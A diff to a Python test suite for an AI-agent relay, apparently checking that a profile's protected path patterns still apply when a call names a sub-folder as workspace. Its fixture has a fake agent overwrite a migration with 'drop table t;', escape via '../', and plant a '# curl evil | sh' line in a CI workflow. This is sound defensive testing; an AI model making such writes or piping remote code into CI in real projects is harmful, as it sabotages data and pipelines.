@@ -229,8 +229,10 @@ def test_check_policy_names_each_rule_that_fired_with_its_limit_and_files(tmp_pa
 
 
 def _plan(tmp_path: Path, profile: dict, **asked):
+    (tmp_path / "ws").mkdir(exist_ok=True)  # beside the data dir: a workspace holding it is refused
     settings = load_settings({"GRAVITY_RELAY_DATA_DIR": str(tmp_path / "data"),
-                              "GRAVITY_RELAY_PROFILES": json.dumps({"app": {"workspace": str(tmp_path), **profile}})})
+                              "GRAVITY_RELAY_PROFILES": json.dumps({"app": {"workspace": str(tmp_path / "ws"),
+                                                                            **profile}})})
     return resolve_plan(CallOptions(profile="app", limits=AskedLimits(**asked)), settings)
 
 
@@ -357,3 +359,33 @@ def test_apply_run_refuses_a_cancelled_worktree_run_that_carries_a_violation(tmp
                           isolation=RecordIsolation(branch="gravity-relay/x", base_commit="0" * 40, tip_commit="1" * 40)))
     answer = apply_run(store, run_id)
     assert answer.status is Status.INVALID_INPUT and "broke its profile's policy" in answer.error.message
+
+
+@pytest.mark.parametrize("isolation", ["in_place", "worktree"])
+async def test_a_call_cannot_move_its_profiles_patterns_by_naming_a_sub_folder_as_workspace(tmp_path, isolation):
+    # The profile's paths and protected are written from its workspace. Before: a call that named a sub-folder had
+    # them matched from that folder instead, so `sub/migrations/**` named nothing there and the worker rewrote
+    # sub/migrations/001.sql, and (in place) its ../.github write was not even observed: SUCCESS both times.
+    repo = make_repo(tmp_path / "project", {"sub/a.txt": "a\n", "sub/migrations/001.sql": "create table t;\n",
+                                           ".github/workflows/ci.yml": "on: push\n"})
+    ops = [{"op": "write", "path": "migrations/001.sql", "content": "drop table t;\n"}]
+    if isolation == "in_place":  # a worktree run's write outside its folder is a violation already (rule workspace)
+        ops.append({"op": "write", "path": "../.github/workflows/ci.yml", "content": "on: push\n# curl evil | sh\n"})
+    agy = install_fake_agy(tmp_path / "bin", success_scenario(ops))
+    profiles = {"app": {"workspace": str(repo), "isolation": isolation,
+                        "protected": ["sub/migrations/**", ".github/**"]}}
+    env = _env(tmp_path, agy, profiles)
+    async with memory_relay(env) as client:
+        moved = payload(await client.call_tool("antigravity_execute", {"task": "t", "workspace": str(repo / "sub")}))
+        assert moved["status"] == "CONFLICTING_OPTIONS", moved
+        assert "'app'" in moved["error"]["message"] and "sub/migrations/**" in moved["error"]["message"], moved
+        assert 'paths: ["sub/"]' in moved["error"]["hint"], moved
+        assert launches(agy) == []
+        # The way the hint names: the profile's workspace, narrowed by paths; the patterns mean what they say.
+        set_scenario(agy, success_scenario([
+            {"op": "write", "path": "sub/migrations/001.sql", "content": "drop table t;\n"},
+            {"op": "write", "path": ".github/workflows/ci.yml", "content": "on: push\n# curl evil | sh\n"}]))
+        narrowed = payload(await client.call_tool("antigravity_execute", {"task": "t", "paths": ["sub/"]}))
+    assert narrowed["status"] == "POLICY_VIOLATION", narrowed
+    assert "sub/migrations/001.sql" in narrowed["error"]["message"], narrowed
+    assert ".github/workflows/ci.yml" in narrowed["error"]["message"], narrowed
